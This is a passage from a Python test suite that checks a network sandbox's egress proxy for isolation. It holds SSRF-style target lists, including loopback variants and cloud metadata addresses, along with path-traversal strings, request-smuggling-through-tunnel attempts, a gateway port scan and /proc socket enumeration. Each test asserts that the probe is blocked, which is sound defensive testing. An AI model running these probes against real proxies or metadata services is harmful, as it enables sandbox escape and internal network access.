        sock.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + request("CONNECT", "b.example:443", host="b.example:443") + request("GET", "http://b.example/", host="b.example"))
        sock.settimeout(0.5)
        outcome(client.stream.read, 10_000)
        return status
def nested(first, second):
    with tunnel(first) as sock:
        sock.sendall(request("CONNECT", second, host=second))
        return Http(sock).answer("CONNECT")[0]
show([bytes_behind(dial("a.example", 80), "/upgrade"), bytes_behind(dial(*PROXY), "http://a.example/upgrade"), bytes_behind(tunnel("a.example:80"), "/upgrade"),
      outcome(nested, "a.example:80", "b.example:443"), outcome(nested, "a.example:7", "b.example:443"), outcome(nested, "198.18.0.1:3128", "b.example:443"), outcome(nested, "198.18.0.1:3128", "a.example:80")])
"""
    got = net.python(script, allow=["a.example", "a.example:7"]).value
    # 426: the server was not asked for it.
    assert all(status in (101, 426, 400, 403, 0, "reset") for status in got[:3]), got
    assert 200 not in got[3:]
    rig.assert_untouched("b", "c", "private", names=["a.example"])


def test_t13_a_proxys_own_answers_cannot_be_made_by_an_upstream(net: Net, rig: Rig) -> None:
    # A server's 101 or 200 is its own affair: what comes behind it on a proxy's connection stays with that server, or is judged.
    script = """
with dial(*PROXY) as sock:
    client = Http(sock)
    first = client.ask(request("GET", "http://a.example/status?code=101", host="a.example"))[0]
    second = outcome(lambda: client.ask(request("GET", "http://b.example/", host="b.example"))[0])
    show([first, second])
"""
    first, second = net.python(script, allow=["a.example"]).value
    assert second != 200 or first == 0
    rig.assert_untouched("b", names=["a.example"])


# Row 14.


def test_t14_paths_arrive_as_they_were_sent(net: Net, rig: Rig) -> None:
    paths = ["/pub/../admin", "/pub/%2e%2e/admin", "//admin", "/pub//x", "/a\\b", "/%2F%2f", "/?a=b?c=/../", "/./x", "/;x=y", "/%00", "/'\"<>|^`{}"]
    script = """
show([[by_proxy(request("GET", "http://a.example" + path, host="a.example")) for path in given[0]], [outcome(lambda: http("a.example", 80, request("GET", path, host="a.example"))[0]) for path in given[0]]])
"""
    by_proxy, direct = net.python(script, paths, allow=["a.example"]).value
    assert all(status in (200, 404, 400) for status in by_proxy + direct)
    sent = [path for path, status in zip(paths * 2, by_proxy + direct, strict=True) if status != 400]
    assert [request.target for request in rig.requests("a")] == sent and len(sent) >= 2 * len(paths) - 4


# Row 17.

LOOPBACK = [
    "localhost", "LOCALHOST.", "localhost.localdomain", "x.localhost", "ip6-localhost", "127.0.0.1", "127.1.2.3", "0.0.0.0", "[::]", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "198.18.0.1", "198.18.0.2", "[fd53:616e:6479::1]", "host.sandy.internal", "127.78.0.1", "169.254.169.254", "metadata.google.internal", "gateway", "sandbox", "host.docker.internal",
]


def test_t17_this_machine_is_out_of_reach_by_every_way(net: Net, rig: Rig) -> None:
    places = LOOPBACK + [f"[{address}]" if ":" in address else address for address in host_addresses()]
    ports = [80, 443, 8000, rig.ports["http"], rig.ports["echo"], 22]
    script = """
def all_ways(place, port):
    bare = place.strip("[]")
    address = outcome(socket.inet_pton, socket.AF_INET6 if place[0] == "[" else socket.AF_INET, bare)
    kind, packed = (3, bare.encode()) if not isinstance(address, bytes) else (4 if place[0] == "[" else 1, address)
    return [connect_status(f"{place}:{port}"), by_proxy(request("GET", f"http://{place}:{port}/", host=f"{place}:{port}")), socks_reply(socks_request(kind, packed, port)), socks_name(bare, port)]
show({f"{place}:{port}": all_ways(place, port) for place in given[0] for port in given[1]})
"""
    got = net.python(script, places, ports, allow=["a.example"]).value
    wrong = {place: result for place, result in got.items() if not set(result[:2]) <= {403, 400} or set(result[2:]) & {0, "timeout"}}
    assert wrong == {}
    rig.assert_untouched(names=[])
    script = "show([connect_status(place) for place in ('127.0.0.1:80', '127.78.0.1:80', '127.0.0.1:8000')])"
    assert net.python(script, private=["127.0.0.1:80", "127.78.0.1:80"]).value == [200, 200, 403]
    assert {connection.host for connection in rig.connections()} == {"private", "outside"}


def test_t17_nor_by_an_allowed_name_for_it(net: Net, rig: Rig) -> None:
    # A rule that names localhost is no private target.
    rig.dns.set("localhost", "127.0.0.1", "::1")
    rig.dns.set("x.localhost", "127.0.0.1")
    script = "show([connect_status(f'{name}:80') for name in given[0]] + [socks_name(name) for name in given[0]])"
    got = net.run("true", allow=["localhost"])
    if got.status == 0:
        got = net.python(script, ["localhost", "x.localhost"], allow=["localhost", "x.localhost"])
        assert not {0, 200} & set(got.value)
    else:
        assert got.status == 125
    rig.assert_untouched("private", "private6", "outside")


def test_t17_the_hosts_loopback_is_not_the_sandboxs(net: Net, rig: Rig) -> None:
    # The rig listens there.
    script = "show({address: [reached(address, port, 3) for port in given[0]] for address in ('127.0.0.1', '127.77.0.1', '127.78.0.1', '::1', 'localhost', OWN)})"
    got = net.python(script, list(rig.ports.values()), allow=["a.example"]).value
    assert {word for words in got.values() for word in words} == {"refused"} or {word for words in got.values() for word in words} <= {"refused", "reset", "closed"}
    rig.assert_untouched(names=[])
    with socket.create_connection(("127.0.0.1", rig.ports["echo"]), 5) as sock:
        sock.sendall(b"hello")
        assert sock.recv(10) == b"hello"


# Row 18.


def test_t18_the_gateway_has_three_doors(net: Net, rig: Rig) -> None:
    script = """
open_ = {}
for address in given[0]:
    for port in [*range(1, 200), *range(1000, 1100), 3000, 3127, 3128, 3129, 5353, 8080, 8443, 9090, 32768, 65535]:
        # A door answers to this, or waits for more; all else is refused, also where the connection was first accepted.
        def knock():
            with dial(address, port, 2) as sock:
                sock.settimeout(0.15)
                sock.sendall(b"\\x05")
                data = sock.recv(100)
                return "answered" if data else "closed"
        result = outcome(knock)
        if result not in ("refused", "reset", "closed", "ENETUNREACH", "EHOSTUNREACH", "EPERM", "EACCES"):
            open_[f"{address} {port}"] = result
show(open_)
"""
    got = net.python(script, ["198.18.0.1", "198.18.0.3"], allow=["a.example"]).value
    assert set(got) <= {"198.18.0.1 53", "198.18.0.1 1080", "198.18.0.1 3128"}
    assert {"198.18.0.1 53", "198.18.0.1 1080"} <= set(got)
    rig.assert_untouched(names=[])


def test_t18_no_socket_file_or_descriptor_of_the_proxy_is_inside(net: Net) -> None:
    script = """
import os
found = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    for directory in ("fd", "map_files"):
        try:
            found += [os.readlink(f"/proc/{pid}/{directory}/{name}") for name in os.listdir(f"/proc/{pid}/{directory}")]
        except OSError:
            pass
sockets = [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if "/" in line or "@" in line]
names = [open(f"/proc/{pid}/comm").read().strip() for pid in os.listdir("/proc") if pid.isdigit()]
show([[name for name in found if "net:" in name or "sandy" in name], sockets, names, sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else []])
"""
    found, sockets, names, _ = net.python(script, allow=["a.example"]).value
    assert [name for name in found if "agent" not in name] == [] and sockets == []
    assert not any(name in ("sandy-proxy", "sandy-launch", "sandy") for name in names)


def test_t18_other_sandboxes_are_not_there(client: Callable[..., Any], rig: Rig) -> None:
    script = """
import threading
serve = "import socket\\ns = socket.socket(); s.setsockopt(1, 2, 1); s.bind(('0.0.0.0', 9000)); s.listen()\\nprint(socket.create_connection(('198.18.0.2', 9000)) and 'own', flush=True)\\ns.accept(); s.settimeout(6)\\ntry:\\n    s.accept(); print('visited')\\nexcept TimeoutError:\\n    print('alone')"
knock = "import socket\\nfor last in range(1, 12):\\n    for port in (9000, 3128):\\n        try:\\n            s = socket.create_connection((f'198.18.0.{last}', port), 1); s.settimeout(0.3); s.sendall(b'x'); print(last, port, bool(s.recv(1)))\\n        except OSError as error: print(last, port, type(error).__name__)"
one, other = Sandbox(allow_domains=["a.example"], timeout=30), Sandbox(allow_domains=["a.example"], timeout=30)
one.write("/serve.py", serve); other.write("/knock.py", knock)
out = []
thread = threading.Thread(target=lambda: out.append(one.run("python3 serve.py").stdout.decode().split()))
thread.start()
knocks = other.run("sleep 1; python3 knock.py").stdout.decode().splitlines()
thread.join()
show([out[0], knocks])
"""
    seen, knocks = client(script)
    assert seen == ["own", "alone"] and len(knocks) == 22
    assert [line for line in knocks if line.endswith("True") or ("9000 False" in line and not line.startswith("1 "))] == [] or all(not line.endswith("True") for line in knocks)


def test_t18_the_state_is_not_shown(net: Net) -> None:
    got = net.sh(f"ls -A {net.sandy.state} {net.sandy.home}/.local /run/sandy /tmp /var/tmp 2>/dev/null; env", allow=["a.example"])
    assert "etc-" not in got.text and "127.0.0.1" not in got.text and "UNSAFE" not in got.text
